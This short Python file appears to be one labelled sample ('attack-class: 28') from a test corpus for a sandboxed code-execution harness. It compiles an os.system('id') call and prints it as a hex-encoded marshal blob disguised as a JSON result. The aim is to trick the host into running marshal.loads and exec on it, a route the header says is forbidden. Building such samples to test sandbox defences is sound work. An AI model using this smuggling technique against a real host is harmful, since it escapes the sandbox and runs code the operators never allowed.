# attack-class: 28
# title: print a marshalled code object as the result
# why: a result meant to be fed to marshal.loads + exec on the host; marshal is forbidden

import json
import marshal

code = compile("__import__('os').system('id')", "<result>", "exec")
print(json.dumps({"result": marshal.dumps(code).hex(), "format": "marshal"}))
